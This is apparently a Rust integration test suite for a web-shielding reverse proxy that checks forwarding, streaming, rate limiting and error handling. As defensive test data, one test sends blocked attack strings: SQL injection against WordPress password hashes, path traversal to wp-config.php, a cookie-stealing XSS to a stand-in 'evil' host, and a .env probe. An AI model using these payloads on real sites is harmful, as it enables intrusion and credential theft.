//! `storefort proxy` (the real binary) in front of another web server on
//! loopback: what passes arrives intact, with X-Forwarded-For set; what
//! the shield refuses never reaches the upstream.

use axum::body::Bytes;
use axum::http::{HeaderMap, Method, Uri};
use sha2::{Digest, Sha256};
use std::process::Stdio;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};
use tokio::process::{Child, Command};

#[derive(Debug, Clone)]
struct Seen {
    method: String,
    uri: String,
    forwarded_for: String,
    host: String,
    has_hop_header: bool,
    body: Vec<u8>,
}

/// A stand-in for another store: records every request and answers with a
/// large body and headers of its own.
async fn upstream() -> (String, Arc<Mutex<Vec<Seen>>>) {
    let seen = Arc::new(Mutex::new(Vec::new()));
    let log = seen.clone();
    let app = axum::Router::new()
        .route(
            "/upload",
            axum::routing::post(|body: axum::body::Body| async move {
                // Hash as it arrives: the test server does not hold it either.
                use http_body_util::BodyExt;
                let mut body = body;
                let mut hasher = Sha256::new();
                let mut len = 0usize;
                while let Some(Ok(frame)) = body.frame().await {
                    if let Ok(data) = frame.into_data() {
                        len += data.len();
                        hasher.update(&data);
                    }
                }
                format!("{len} {}", hex(&hasher.finalize()))
            }),
        )
        .route(
            "/download",
            axum::routing::get(|| async {
                let chunks = (0..BIG / CHUNK).map(|i| Ok::<_, std::io::Error>(Bytes::from(chunk(i))));
                axum::body::Body::from_stream(futures::stream::iter(chunks))
            }),
        )
        .fallback(move |method: Method, uri: Uri, headers: HeaderMap, body: Bytes| {
            let log = log.clone();
            async move {
                let header = |n: &str| headers.get(n).and_then(|v| v.to_str().ok()).unwrap_or("").to_owned();
                log.lock().expect("lock").push(Seen {
                    method: method.to_string(),
                    uri: uri.to_string(),
                    forwarded_for: header("x-forwarded-for"),
                    host: header("host"),
                    has_hop_header: headers.contains_key("x-hop"),
                    body: body.to_vec(),
                });
                let page = "<p>shop</p>".repeat(100_000);
                ([("x-upstream", "woo"), ("set-cookie", "woocommerce_session=abc; HttpOnly")], page)
            }
        });
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("bind");
    let addr = listener.local_addr().expect("addr");
    tokio::spawn(async move {
        let _ = axum::serve(listener, app).await;
    });
    (format!("http://{addr}"), seen)
}

fn free_port() -> u16 {
    std::net::TcpListener::bind("127.0.0.1:0").expect("bind").local_addr().expect("addr").port()
}

async fn start_proxy(upstream: &str) -> (Child, String, tempfile::TempDir) {
    let port = free_port();
    // An empty working directory: no ./storefort.toml to pick up.
    let dir = tempfile::tempdir().expect("dir");
    let child = Command::new(env!("CARGO_BIN_EXE_storefort"))
        .args(["proxy", "--listen", &format!("127.0.0.1:{port}"), "--upstream", upstream])
        .current_dir(dir.path())
        .env_remove("STOREFORT_CONFIG")
        .env("STOREFORT_SHIELD__LIMITS__SIGN_IN__PER_MINUTE", "2")
        .env("STOREFORT_SHIELD__LIMITS__SIGN_IN__BURST", "2")
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .kill_on_drop(true)
        .spawn()
        .expect("start storefort proxy");
    let base = format!("http://127.0.0.1:{port}");
    let deadline = Instant::now() + Duration::from_secs(30);
    while Instant::now() < deadline {
        if tokio::net::TcpStream::connect(("127.0.0.1", port)).await.is_ok() {
            return (child, base, dir);
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    panic!("storefort proxy did not start");
}

#[tokio::test]
async fn the_proxy_forwards_clean_requests_intact_and_keeps_attacks_from_the_upstream() {
    let (upstream_url, seen) = upstream().await;
    let (_proxy, base, _dir) = start_proxy(&upstream_url).await;
    let client = reqwest::Client::new();

    // A shopper's page view: streamed back whole, upstream headers kept.
    let r = client
        .get(format!("{base}/shop/?orderby=price&paged=2"))
        .header("x-forwarded-for", "6.6.6.6")
        .header("connection", "x-hop")
        .header("x-hop", "1")
        .send()
        .await
        .expect("send");
    assert_eq!(r.status(), 200);
    assert_eq!(r.headers()["x-upstream"], "woo");
    assert!(r.headers()["set-cookie"].to_str().expect("ascii").starts_with("woocommerce_session="));
    assert!(r.headers().contains_key("x-request-id"));
    let body = r.bytes().await.expect("body");
    assert_eq!(body.len(), "<p>shop</p>".len() * 100_000);
    {
        let seen = seen.lock().expect("lock");
        let first = &seen[0];
        assert_eq!((first.method.as_str(), first.uri.as_str()), ("GET", "/shop/?orderby=price&paged=2"));
        assert_eq!(first.forwarded_for, "127.0.0.1", "a client's own X-Forwarded-For is not passed on as ours");
        assert!(first.host.starts_with("127.0.0.1:"), "the Host the client asked for is kept");
        assert!(!first.has_hop_header, "hop-by-hop headers stay on their hop");
    }

    // A form post arrives byte for byte.
    let form = "billing_first_name=Ada&billing_city=K%C3%B6ln&order_comments=Leave+it+by+the+door%2C+please";
    let r = client
        .post(format!("{base}/?wc-ajax=update_order_review"))
        .header("content-type", "application/x-www-form-urlencoded")
        .body(form)
        .send()
        .await
        .expect("send");
    assert_eq!(r.status(), 200);
    assert_eq!(seen.lock().expect("lock").last().expect("seen").body, form.as_bytes());

    // Attacks are answered by the proxy and never reach the store.
    let before = seen.lock().expect("lock").len();
    for (path, body) in [
        ("/?s=%27%20UNION%20SELECT%20user_pass%20FROM%20wp_users--", ""),
        ("/wp-content/plugins/x/download.php?file=../../../../wp-config.php", ""),
        (
            "/product/lamp/",
            "comment=%3Cscript%3Edocument.location%3D%27http%3A%2F%2Fevil%2F%27%2Bdocument.cookie%3C%2Fscript%3E",
        ),
        ("/.env", ""),
    ] {
        let r = client
            .post(format!("{base}{path}"))
            .header("content-type", "application/x-www-form-urlencoded")
            .body(body)
            .send()
            .await
            .expect("send");
        assert_eq!(r.status(), 403, "{path}");
        assert!(r.text().await.expect("text").contains("Request id:"));
    }
    assert_eq!(seen.lock().expect("lock").len(), before, "no attack reached the upstream");

    // Sign-in attempts on the upstream's login page are rate limited.
    let statuses: Vec<u16> = {
        let mut s = Vec::new();
        for _ in 0..3 {
            let r = client
                .post(format!("{base}/wp-login.php"))
                .header("content-type", "application/x-www-form-urlencoded")
                .body("log=admin&pwd=hunter2")
                .send()
                .await
                .expect("send");
            s.push(r.status().as_u16());
        }
        s
    };
    assert_eq!(statuses, [200, 200, 429]);
}

const BIG: usize = 50 * 1024 * 1024;
const CHUNK: usize = 256 * 1024;

/// Chunk `i` of a large benign file: text no detector cares about.
fn chunk(i: usize) -> Vec<u8> {
    format!("storefort-test-data-{i:08}-").into_bytes().into_iter().cycle().take(CHUNK).collect()
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

/// The most memory the process ever held (VmHWM), in MiB.
fn peak_mib(pid: u32) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).expect("proc status");
    let line = status.lines().find(|l| l.starts_with("VmHWM:")).expect("VmHWM");
    line.split_whitespace().nth(1).and_then(|kb| kb.parse::<u64>().ok()).expect("kB") / 1024
}

#[tokio::test]
async fn fifty_mebibytes_stream_through_both_ways_without_being_held_whole() {
    let (upstream_url, _) = upstream().await;
    let (proxy, base, _dir) = start_proxy(&upstream_url).await;
    let pid = proxy.id().expect("pid");
    let before = peak_mib(pid);

    // Upload: a multipart body sent in chunks (Transfer-Encoding: chunked).
    let addr = base.trim_start_matches("http://");
    let mut stream = tokio::net::TcpStream::connect(addr).await.expect("connect");
    let head = "--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"catalog.csv\"\r\nContent-Type: text/csv\r\n\r\n";
    let tail = "\r\n--b--\r\n";
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    stream
        .write_all(
            b"POST /upload HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: test\r\nContent-Type: multipart/form-data; boundary=b\r\nTransfer-Encoding: chunked\r\n\r\n",
        )
        .await
        .expect("head");
    let mut hasher = Sha256::new();
    let mut sent = 0usize;
    let mut send = |data: Vec<u8>| {
        hasher.update(&data);
        sent += data.len();
        let mut framed = format!("{:x}\r\n", data.len()).into_bytes();
        framed.extend_from_slice(&data);
        framed.extend_from_slice(b"\r\n");
        framed
    };
    let first = send(head.as_bytes().to_vec());
    stream.write_all(&first).await.expect("part head");
    for i in 0..BIG / CHUNK {
        let framed = send(chunk(i));
        stream.write_all(&framed).await.expect("chunk");
    }
    let last = send(tail.as_bytes().to_vec());
    stream.write_all(&last).await.expect("part tail");
    stream.write_all(b"0\r\n\r\n").await.expect("end");
    let mut answer = Vec::new();
    let mut buf = vec![0; 4096];
    while !String::from_utf8_lossy(&answer).contains(&format!("{sent} ")) {
        let n =
            tokio::time::timeout(Duration::from_secs(60), stream.read(&mut buf)).await.expect("answer").expect("read");
        assert!(n > 0, "connection closed: {}", String::from_utf8_lossy(&answer));
        answer.extend_from_slice(&buf[..n]);
    }
    let answer = String::from_utf8_lossy(&answer).into_owned();
    assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
    assert!(
        answer.contains(&format!("{sent} {}", hex(&hasher.finalize()))),
        "the upload arrived byte for byte: {answer}"
    );

    // Download: streamed back and identical.
    let mut r = reqwest::get(format!("{base}/download")).await.expect("send");
    assert_eq!(r.status(), 200);
    let (mut got, mut hasher, mut expected) = (0usize, Sha256::new(), Sha256::new());
    while let Some(piece) = r.chunk().await.expect("chunk") {
        got += piece.len();
        hasher.update(&piece);
    }
    for i in 0..BIG / CHUNK {
        expected.update(chunk(i));
    }
    assert_eq!((got, hasher.finalize()), (BIG, expected.finalize()));

    let grown = peak_mib(pid).saturating_sub(before);
    assert!(grown < 40, "the proxy's peak memory grew by {grown} MiB for 50 MiB each way");
}

#[tokio::test]
async fn an_unreachable_upstream_is_a_502_not_a_hang() {
    let dead = format!("http://127.0.0.1:{}", free_port());
    let (_proxy, base, _dir) = start_proxy(&dead).await;
    let r = reqwest::get(format!("{base}/")).await.expect("send");
    assert_eq!(r.status(), 502);
}
